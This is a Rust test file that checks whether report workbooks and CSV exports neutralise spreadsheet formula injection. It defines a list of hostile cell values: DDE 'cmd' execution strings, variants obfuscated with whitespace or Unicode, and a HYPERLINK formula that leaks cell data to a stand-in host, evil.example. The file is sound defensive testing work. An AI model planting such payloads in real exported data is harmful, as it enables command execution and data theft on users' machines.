//! Formulas: can a name, a note or a banner compute something in any table that we write?
//!
//! Every value of a report that may come from an instance or a person is one that a spreadsheet would run, in the text
//! of any script; every table is read back with other code than ours.

use directive::record::{Account, AccountKind, Moment};
use report::workbook::{Limits, fill, own};
use report::{Report, traces};

use crate::{full_report, map, pack, read, template};

/// What spreadsheets take for a formula, and what hides one.
const FORMULAS: [&str; 10] = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"שלום\")",
    "＝1+1",
    "東京;=1+1\t=2\u{202e}",
];

/// A report whose instances and answers are all formulas.
fn hostile() -> Report {
    let mut report = full_report(FORMULAS.len());
    report.organisation = FORMULAS[0].into();
    for (n, row) in report.form.rows.iter_mut().enumerate() {
        row.instance = FORMULAS[n].into();
        for answer in &mut row.answers {
            answer.value = Some(FORMULAS[n].into());
        }
    }
    for (answer, formula) in report.form.fields.iter_mut().zip(FORMULAS.iter().cycle()) {
        answer.value = Some((*formula).into());
    }
    report.form.missing = FORMULAS.map(str::to_owned).to_vec();
    report
}

#[test]
fn our_own_workbook_computes_nothing() {
    let made = own(&hostile(), &pack().form).unwrap();
    // `read` refuses a sheet that has a formula.
    for (row, formula) in (2..).zip(FORMULAS) {
        let shown = formula.replace('\r', "\\r").replace('\u{202e}', "\\u{202e}");
        for column in ["A", "B", "I", "M"] {
            assert_eq!(read(&made.bytes, "Inventory", &format!("{column}{row}")).as_deref(), Some(shown.as_str()));
        }
    }
    for sheet in ["Status", "Missing and rules", "Duties"] {
        read(&made.bytes, sheet, "A1");
    }
}

#[test]
fn the_authoritys_workbook_computes_nothing() {
    let Some(form) = template("ed21-03status.xlsx") else { return };
    let made = fill(&form, &hostile(), &map(), &Limits::default()).unwrap();
    for (row, formula) in (7..).zip(FORMULAS) {
        let shown = formula.replace('\r', "\\r").replace('\u{202e}', "\\u{202e}");
        for column in ["B", "I", "M"] {
            assert_eq!(read(&made.bytes, "Inventory", &format!("{column}{row}")).as_deref(), Some(shown.as_str()));
        }
    }
}

/// Every cell of a table, as programs read it that end cells with one of these.
fn cells(table: &str, end: u8) -> Vec<String> {
    let mut reader =
        csv::ReaderBuilder::new().delimiter(end).flexible(true).has_headers(false).from_reader(table.as_bytes());
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

#[track_caller]
fn holds_no_formula(table: &str) {
    for end in [b',', b';', b'\t'] {
        for cell in cells(table, end) {
            let begins = cell.chars().next().unwrap_or('x');
            assert!(!"=+-@\t\r\n＝＋－＠".contains(begins), "{cell:?} with {:?} between cells", char::from(end));
        }
    }
    // Without any quotes, as the worst of them read it.
    for cell in table.split(['\n', ';', '\t']) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
    }
}

#[test]
fn no_table_has_a_formula_whatever_ends_its_cells() {
    let report = hostile();
    holds_no_formula(&report::csv::render(&report, &pack().form).unwrap());
    let at = report.at;
    let moments: Vec<_> = FORMULAS
        .iter()
        .map(|formula| Moment {
            time: at,
            what: "login".into(),
            why: (*formula).into(),
            path: Some((*formula).into()),
            line: None,
            clock: "zoned".into(),
            account: Some((*formula).into()),
            address: Some((*formula).into()),
            code: Some((*formula).into()),
            severity: None,
        })
        .collect();
    holds_no_formula(&traces::csv([(FORMULAS[0], &moments[..])]).unwrap());
    let accounts: Vec<_> = FORMULAS
        .iter()
        .map(|formula| Account {
            user: (*formula).into(),
            realm: None,
            kinds: vec![AccountKind::User],
            roles: vec![(*formula).into()],
            addresses: vec![(*formula).into()],
            countries: vec![(*formula).into()],
            first: None,
            last: None,
            logins: 1,
            why: (*formula).into(),
        })
        .collect();
    holds_no_formula(&traces::accounts([(FORMULAS[0], &accounts[..])]).unwrap());
}
